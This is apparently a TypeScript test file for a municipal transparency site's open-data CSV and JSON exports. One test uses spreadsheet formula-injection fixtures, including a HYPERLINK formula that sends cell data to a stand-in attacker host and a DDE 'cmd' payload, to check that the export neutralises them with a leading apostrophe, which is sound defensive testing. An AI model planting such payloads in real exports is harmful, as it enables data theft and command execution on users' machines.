import { bootApp, type TestApp } from '../harness/app';
import type { GetOpenDataJsonResponse } from '../../src/api/public-site/types';
import { mediaFile, publishedItem, readyItem, STATE_LAW, token } from './site-fixtures';

const PUBLIC_URL = 'https://transparencia.calimaya.gob.mx';
const FIELDS = [
  'documentId',
  'title',
  'law',
  'lawVersion',
  'article',
  'fraccion',
  'ejercicio',
  'periodStart',
  'periodEnd',
  'responsibleArea',
  'updatedOn',
  'validatedOn',
  'note',
  'publishedAt',
  'fileUrl',
];
/** The CSV's headers, in Spanish for people, in the order of FIELDS. */
const HEADERS = [
  'Identificador',
  'Título',
  'Ley',
  'Versión de la ley',
  'Artículo',
  'Fracción',
  'Ejercicio',
  'Inicio del periodo',
  'Fin del periodo',
  'Área responsable',
  'Fecha de actualización',
  'Fecha de validación',
  'Nota',
  'Fecha de publicación',
  'URL del archivo',
];

/** RFC 4180: CRLF records, fields in double quotes may hold commas, quotes ("") and line breaks. */
const parseCsv = (text: string): string[][] => {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') {
        quoted = false;
      } else {
        field += char;
      }
    } else if (char === '"') {
      if (field !== '') throw new Error(`Comilla dentro de un campo sin comillas, posición ${i}`);
      quoted = true;
    } else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else if (char === '\n' || char === '\r') {
      throw new Error(`Salto de línea sin CRLF fuera de comillas, posición ${i}`);
    } else {
      field += char;
    }
  }
  if (quoted) throw new Error('Comillas sin cerrar');
  if (field !== '' || record.length > 0) throw new Error('El último registro no termina en CRLF');
  return records;
};

describe('datos abiertos de transparencia', () => {
  let app: TestApp;
  let word: string;
  let withFile: string;
  let plain: string;
  let draft: string;
  let fileUrl: string;
  let formulas: string;
  let formulaWord: string;
  const FORMULA_TITLE = (w: string) => `=HYPERLINK("http://ataque.example/?d="&A1,"${w}")`;
  const FORMULA_NOTE = "+cmd|' /C calc'!A0";
  const FORMULA_AREA = '@SUM(1+1)*cmd|x';
  const NOTE = 'Incluye la "Coordinación de Gobierno Digital", creada en 2026;\nver anexo.';

  beforeAll(async () => {
    app = await bootApp({ env: { PUBLIC_URL } });
    word = token();
    const file = await mediaFile(app, 'organigrama-2026.pdf');
    fileUrl = file.url;
    withFile = await publishedItem(app, 'transparency-document', {
      title: `Estructura orgánica, señalética y áreas ${word}`,
      law: STATE_LAW,
      lawVersion: 'Reforma publicada en la Gaceta del Gobierno, 2025',
      article: '92',
      fraccion: 'II',
      ejercicio: 2026,
      periodStart: '2026-04-01',
      periodEnd: '2026-06-30',
      responsibleArea: 'Dirección de Administración',
      updatedOn: '2026-07-05',
      validatedOn: '2026-07-08',
      note: NOTE,
      file: file.id,
    });
    plain = await publishedItem(app, 'transparency-document', {
      title: `Directorio de servidores públicos ${word}`,
      law: STATE_LAW,
      article: '92',
      fraccion: 'VII',
      ejercicio: 2025,
      periodStart: '2025-10-01',
      periodEnd: '2025-12-31',
      responsibleArea: 'Dirección de Administración',
      body: 'Directorio vigente',
    });
    formulaWord = token();
    formulas = await publishedItem(app, 'transparency-document', {
      title: FORMULA_TITLE(formulaWord),
      law: STATE_LAW,
      article: '92',
      fraccion: 'III',
      ejercicio: 2026,
      periodStart: '2026-01-01',
      periodEnd: '2026-03-31',
      responsibleArea: FORMULA_AREA,
      note: FORMULA_NOTE,
      body: 'Documento con textos que una hoja de cálculo tomaría por fórmulas',
    });
    draft = await readyItem(app, 'transparency-document', {
      title: `Marco normativo ${word}`,
      law: STATE_LAW,
      article: '92',
      fraccion: 'I',
      ejercicio: 2026,
      periodStart: '2026-01-01',
      periodEnd: '2026-03-31',
    });
  });
  afterAll(async () => {
    await app?.close();
    delete process.env.PUBLIC_URL;
  });

  it('CSV: UTF-8 con BOM, CRLF, RFC 4180, una fila por documento publicado con cada columna', async () => {
    const res = await app
      .http()
      .get(`/api/open-data/transparency.csv?q=${word}`)
      .buffer(true)
      .parse((response, done) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="transparencia.csv"');
    const bytes = res.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');

    const [header, ...rows] = parseCsv(text);
    // People read the CSV: Spanish headers, one per JSON field, in the same order.
    expect(header).toEqual(HEADERS);
    expect(text.split('\r\n')[0]).toBe(
      'Identificador,Título,Ley,Versión de la ley,Artículo,Fracción,Ejercicio,Inicio del periodo,' +
        'Fin del periodo,Área responsable,Fecha de actualización,Fecha de validación,Nota,' +
        'Fecha de publicación,URL del archivo'
    );
    expect(rows.map((row) => row[0])).toEqual([withFile, plain]);
    expect(rows.map((row) => row[0])).not.toContain(draft);
    for (const row of rows) expect(row).toHaveLength(FIELDS.length);

    const first = Object.fromEntries(FIELDS.map((name, i) => [name, rows[0][i]]));
    expect(first).toMatchObject({
      documentId: withFile,
      title: `Estructura orgánica, señalética y áreas ${word}`,
      law: STATE_LAW,
      lawVersion: 'Reforma publicada en la Gaceta del Gobierno, 2025',
      article: '92',
      fraccion: 'II',
      ejercicio: '2026',
      periodStart: '2026-04-01',
      periodEnd: '2026-06-30',
      responsibleArea: 'Dirección de Administración',
      updatedOn: '2026-07-05',
      validatedOn: '2026-07-08',
      note: NOTE,
      fileUrl: `${PUBLIC_URL}${fileUrl}`,
    });
    expect(new Date(first.publishedAt).toISOString()).toBe(first.publishedAt);
    const second = Object.fromEntries(FIELDS.map((name, i) => [name, rows[1][i]]));
    expect(second).toMatchObject({ fraccion: 'VII', lawVersion: '', note: '', fileUrl: '' });
  });

  it('CSV con filtros: solo las filas que cumplen', async () => {
    const res = await app
      .http()
      .get(`/api/open-data/transparency.csv?q=${word}&ejercicio=2025&period=2025-T4`)
      .expect(200);
    const [, ...rows] = parseCsv(res.text.replace(/^\uFEFF/, ''));
    expect(rows.map((row) => row[0])).toEqual([plain]);
  });

  it('CSV: un título, una nota o un área que empiezan como fórmula llevan un apóstrofo delante', async () => {
    // Given a published document whose texts start with =, + and @
    // When a citizen downloads the open data CSV
    const res = await app
      .http()
      .get(`/api/open-data/transparency.csv?q=${formulaWord}`)
      .expect(200);
    const [header, ...rows] = parseCsv(res.text.replace(/^\uFEFF/, ''));
    // Then the spreadsheet sees text, never a formula, and the rest of the row is untouched
    expect(rows.map((row) => row[0])).toEqual([formulas]);
    expect(header).toEqual(HEADERS);
    const row = Object.fromEntries(FIELDS.map((name, i) => [name, rows[0][i]]));
    expect(row).toMatchObject({
      title: `'${FORMULA_TITLE(formulaWord)}`,
      note: `'${FORMULA_NOTE}`,
      responsibleArea: `'${FORMULA_AREA}`,
      fraccion: 'III',
      ejercicio: '2026',
    });
    for (const cell of rows[0]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // And the JSON keeps the text exactly as published, for the programs that read it
    const json = await app
      .http()
      .get(`/api/open-data/transparency.json?q=${formulaWord}`)
      .expect(200);
    expect((json.body as GetOpenDataJsonResponse).data[0]).toMatchObject({
      title: FORMULA_TITLE(formulaWord),
      note: FORMULA_NOTE,
    });
  });

  it('JSON: generatedAt, count, los mismos campos y una fila por documento', async () => {
    const res = await app.http().get(`/api/open-data/transparency.json?q=${word}`).expect(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    const body = res.body as GetOpenDataJsonResponse;
    expect(body.fields).toEqual(FIELDS);
    expect(body.count).toBe(2);
    expect(Math.abs(Date.parse(body.generatedAt) - Date.now())).toBeLessThan(60_000);
    expect(body.data.map((row) => row.documentId)).toEqual([withFile, plain]);
    for (const row of body.data) expect(Object.keys(row)).toEqual(FIELDS);
    expect(body.data[0]).toMatchObject({
      ejercicio: 2026,
      note: NOTE,
      fileUrl: `${PUBLIC_URL}${fileUrl}`,
    });
    expect(body.data[1]).toMatchObject({ ejercicio: 2025, fileUrl: null, lawVersion: null });
  });
});
